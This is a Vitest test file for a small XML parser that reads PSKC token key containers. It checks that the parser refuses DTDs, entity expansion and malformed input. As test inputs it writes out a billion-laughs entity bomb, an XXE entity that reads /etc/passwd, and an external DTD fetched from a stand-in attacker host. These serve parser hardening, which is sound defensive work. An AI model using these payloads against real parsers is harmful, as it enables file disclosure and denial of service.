import { describe, expect, it } from "vitest";
import { childNamed, MAX_XML_CHARACTERS, parseXml, path, XmlError, type XmlErrorKind } from "../../../lib/tokens/pskc/xml";
import { fixture } from "./helpers";

function errorOf(xml: string): XmlError {
  try {
    parseXml(xml);
  } catch (error) {
    if (error instanceof XmlError) return error;
    throw error;
  }
  throw new Error("expected an XmlError");
}

function expectRefused(xml: string, kind: XmlErrorKind, messagePart: string): void {
  const error = errorOf(xml);
  expect(error.kind).toBe(kind);
  expect(error.message).toContain(messagePart);
}

describe("parseXml: what PSKC needs", () => {
  it("reads elements, attributes, text, CDATA, comments and processing instructions", () => {
    const root = parseXml(
      `<?xml version="1.0" encoding="UTF-8"?>\n<!-- vendor export -->\n<?vendor tool="x"?>` +
        `<a Version='1.0' note="x &amp; y &lt;z&gt; &quot;q&quot; &apos;s&apos;"><b>1 &#65;&#x42; 2</b><c><![CDATA[<raw> & stuff]]></c><d/></a>\n<!-- end -->\n`,
    );
    expect(root.name).toBe("a");
    expect(root.attributes.get("Version")).toBe("1.0");
    expect(root.attributes.get("note")).toBe(`x & y <z> "q" 's'`);
    expect(root.children.map((child) => child.name)).toEqual(["b", "c", "d"]);
    expect(childNamed(root, "b")?.text).toBe("1 AB 2");
    expect(childNamed(root, "c")?.text).toBe("<raw> & stuff");
    expect(childNamed(root, "d")?.children).toEqual([]);
  });

  it("resolves namespace prefixes and default namespaces", () => {
    const root = parseXml(
      `<KeyContainer xmlns="urn:ietf:params:xml:ns:keyprov:pskc" xmlns:ds="http://www.w3.org/2000/09/xmldsig#">` +
        `<EncryptionKey><ds:KeyName>k</ds:KeyName></EncryptionKey><x xmlns=""><y/></x></KeyContainer>`,
    );
    expect(root.namespace).toBe("urn:ietf:params:xml:ns:keyprov:pskc");
    const keyName = path(root, "EncryptionKey", "KeyName");
    expect([keyName?.name, keyName?.local, keyName?.namespace, keyName?.text]).toEqual([
      "ds:KeyName",
      "KeyName",
      "http://www.w3.org/2000/09/xmldsig#",
      "k",
    ]);
    expect(path(root, "x", "y")?.namespace).toBeNull();
  });

  it("parses every fixture", () => {
    for (const name of ["totp-plain.xml", "totp-psk-aes128.xml", "totp-pbkdf2.xml", "rfc6030-figure2.xml", "rfc6030-figure3.xml", "rfc6030-figure6.xml", "rfc6030-figure7.xml"]) {
      expect(parseXml(fixture(`pskc/${name}`).toString("utf8")).local).toBe("KeyContainer");
    }
  });
});

describe("parseXml: DTDs and entities are refused (S1)", () => {
  it("refuses a plain DOCTYPE", () => {
    expectRefused(`<?xml version="1.0"?>\n<!DOCTYPE KeyContainer>\n<KeyContainer/>`, "doctype", "line 2: the document contains a <!DOCTYPE declaration");
  });

  it("refuses the billion laughs", () => {
    const lol = [
      `<?xml version="1.0"?>`,
      `<!DOCTYPE lolz [`,
      ` <!ENTITY lol "lol">`,
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`),
      `]>`,
      `<lolz>&lol9;</lolz>`,
    ].join("\n");
    expectRefused(lol, "doctype", "<!DOCTYPE");
  });

  it("refuses an external entity (XXE)", () => {
    expectRefused(`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, "doctype", "<!DOCTYPE");
    expectRefused(`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>`, "doctype", "<!DOCTYPE");
  });

  it("refuses a DOCTYPE anywhere and in any case", () => {
    expectRefused(`<a/><!doctype a>`, "doctype", "<!doctype");
    expectRefused(`<a><!-- <!DOCTYPE hidden> --></a>`, "doctype", "<!DOCTYPE");
    expectRefused(`<a><![CDATA[<!DOCTYPE x>]]></a>`, "doctype", "<!DOCTYPE");
    expectRefused(`<a><!ENTITY x "y"></a>`, "doctype", "<!ENTITY");
  });

  it("refuses unknown entity references and bare ampersands", () => {
    expectRefused(`<a>&xxe;</a>`, "malformed", "the entity &xxe; is not allowed");
    expectRefused(`<a b="&nbsp;"/>`, "malformed", "the entity &nbsp; is not allowed");
    expectRefused(`<a>fish & chips</a>`, "malformed", '"&" must start an entity reference');
    expectRefused(`<a>&#0;</a>`, "malformed", "is not a character XML allows");
    expectRefused(`<a>&constructor;</a>`, "malformed", "the entity &constructor; is not allowed");
  });

  it("refuses other markup declarations", () => {
    expectRefused(`<a><!ELEMENT a ANY></a>`, "malformed", "declarations (<!…>) are not allowed");
  });
});

describe("parseXml: malformed and truncated documents", () => {
  const plain = fixture("pskc/totp-plain.xml").toString("utf8");

  it("refuses the fixture cut short at any point", () => {
    const cuts = [10, 39, 100, 250, 500, 1000, plain.indexOf("</KeyContainer>"), plain.length - 3];
    for (const cut of cuts) {
      const error = errorOf(plain.slice(0, cut));
      expect(error.kind).toBe("truncated");
      expect(error.message).toMatch(/truncated/);
    }
  });

  it.each([
    ["<a><b></a>", "does not match"],
    ["<a/><b/>", "more than one root element"],
    ["<p:a/>", 'the namespace prefix "p" is not declared'],
    ['<a x="1" x="2"/>', "appears twice"],
    ["<a x=1/>", "must be quoted"],
    ['<a x="<"/>', 'the document contains "<", which XML does not allow there'],
    ["hello", "text outside the root element"],
    ["", "no XML element"],
    ["</a>", "closes nothing"],
    [`<?xml version="1.0"?><a/><?xml version="1.0"?>`, "must be at the very start"],
    ["<a>\u0001</a>", "the control character U+0001"],
    ['<a b="1"c="2"/>', "expected a space"],
  ])("refuses %j", (xml, messagePart) => {
    const error = errorOf(xml);
    expect(error.kind).toBe("malformed");
    expect(error.message).toContain(messagePart);
  });

  it("refuses encodings other than UTF-8", () => {
    expectRefused(`<?xml version="1.0" encoding="ISO-8859-1"?><a/>`, "encoding", 'declares encoding "ISO-8859-1"');
  });

  // Its speed is measured by the benchmark, not here (tests never assert wall-clock time).
  it("reads a big container of 4,000 key packages", () => {
    const keyPackage = plain.slice(plain.indexOf("<KeyPackage>"), plain.indexOf("</KeyPackage>") + "</KeyPackage>".length);
    const big = plain.replace(/<KeyPackage>[\s\S]*<\/KeyPackage>/, keyPackage.repeat(4_000));
    expect(parseXml(big).children).toHaveLength(4_000);
  });

  it("refuses a comment that never closes", () => {
    expectRefused("<a><!--></a>", "truncated", "the file looks truncated");
  });

  it("refuses a document over the size cap before reading it", () => {
    expectRefused(`<a>${" ".repeat(MAX_XML_CHARACTERS)}</a>`, "malformed", `longer than ${MAX_XML_CHARACTERS} characters`);
  });

  it("reads a bare ampersand inside CDATA and comments, refuses it in text with what it found", () => {
    expect(childNamed(parseXml("<a><!-- fish & chips --><b><![CDATA[R&D]]></b></a>"), "b")?.text).toBe("R&D");
    expectRefused("<a>\n<b>R&D</b></a>", "malformed", 'line 2: "&" must start an entity reference such as &amp; (found "&D")');
  });

  it("refuses absurd nesting", () => {
    expectRefused("<a>".repeat(100) + "</a>".repeat(100), "malformed", "nested more than 64 deep");
  });
});
